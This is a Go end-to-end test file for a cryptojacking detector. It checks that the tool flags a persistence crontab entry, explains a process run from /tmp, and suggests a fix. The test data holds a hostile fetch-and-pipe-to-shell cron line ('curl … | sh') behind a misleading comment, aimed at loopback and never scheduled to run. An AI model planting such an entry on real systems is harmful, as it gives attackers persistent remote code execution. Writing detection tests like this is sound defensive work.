package e2e

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestPersistence puts a line that fetches and runs into a crontab, and beside it
// a line that only asks whether a server lives. Neither ever comes due. The first
// is reported with the command that switches it off, and forgotten when it is gone.
func TestPersistence(t *testing.T) {
	const directory = "/etc/cron.d"
	attack, benign := filepath.Join(directory, "cryptojack-e2e"), filepath.Join(directory, "cryptojack-e2e-benign")
	if err := os.MkdirAll(directory, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{attack, benign} {
		if _, err := os.Lstat(path); !errors.Is(err, os.ErrNotExist) {
			t.Fatalf("%s is there already (%v): it is left alone", path, err)
		}
		t.Cleanup(func() { os.Remove(path) })
	}
	watching := startExporter(t, "--persistence.interval=1s")
	before := scrape(t, watching.url).sum("cryptojack_persistence_changes_total", labels{"kind": "crontab", "change": "added"})

	writeFile(t, directory, filepath.Base(benign), "0 0 31 2 * root curl -fsS http://127.0.0.1:9/alive >/dev/null 2>&1\n")
	writeFile(t, directory, filepath.Base(attack), "# nothing to see\n0 0 31 2 * root curl -fsS http://127.0.0.1:9/x | sh\n")
	eventually(t, 10*time.Second, "the entry", func() error {
		now := scrape(t, watching.url)
		_, _, err := now.one("cryptojack_persistence_info", labels{"kind": "crontab", "path": attack, "reason": "fetch_and_run"})
		if added := now.sum("cryptojack_persistence_changes_total", labels{"kind": "crontab", "change": "added"}); added != before+2 {
			err = errors.Join(err, fmt.Errorf("%v entries were added, want %v", added, before+2))
		}
		if warnings := now.sum("cryptojack_findings", labels{"rule": "persistence_entry", "severity": "warning"}); warnings < 1 {
			err = errors.Join(err, fmt.Errorf("%v findings", warnings))
		}
		return err
	})
	if reported := scrape(t, watching.url).find("cryptojack_persistence_info", labels{"path": benign}); len(reported) != 0 {
		t.Errorf("the benign counterpart is reported: %v", reported)
	}
	scan := runToEnd(t, program(t, "cryptojack_exporter"), "scan", "--for=3s", askNobody(t))
	if scan.code == 0 || !strings.Contains(scan.stdout, "line 2 of "+attack) || !strings.Contains(scan.stdout, "sed -i '2s/^/# /' "+attack) {
		t.Errorf("exit code %d: %s", scan.code, tail(scan.stdout+scan.stderr, 3000))
	}

	if err := os.Remove(attack); err != nil {
		t.Fatal(err)
	}
	eventually(t, 10*time.Second, "the entry is gone", func() error {
		if reported := scrape(t, watching.url).find("cryptojack_persistence_info", labels{"path": attack}); len(reported) != 0 {
			return fmt.Errorf("%v", reported)
		}
		return nil
	})
}

// TestExplain asks about a burner in /tmp and about this test itself.
func TestExplain(t *testing.T) {
	const burner = "/tmp/cryptojack-e2e-explain"
	copyProgram(t, program(t, "replica"), burner, "explain")
	started := startAsNobody(t, []string{"REPLICA_MODE=burner", "REPLICA_DUTY=1"}, burner)
	for pid, want := range map[int]struct {
		code int
		yes  bool
	}{started.PID: {1, true}, os.Getpid(): {0, false}} {
		scan := runToEnd(t, program(t, "cryptojack_exporter"), "scan", "--for=3s", askNobody(t), fmt.Sprintf("--explain=%d", pid))
		said := strings.Contains(scan.stdout, "YES   runs_from_temp")
		if scan.code != want.code || said != want.yes || !strings.Contains(scan.stdout, "no    known_miner_hash") {
			t.Errorf("pid %d, exit code %d: %s", pid, scan.code, tail(scan.stdout+scan.stderr, 3000))
		}
	}
	if scan := runToEnd(t, program(t, "cryptojack_exporter"), "scan", "--for=1s", askNobody(t), "--explain=999999999"); scan.code != 3 {
		t.Errorf("a pid that is not: exit code %d", scan.code)
	}
}
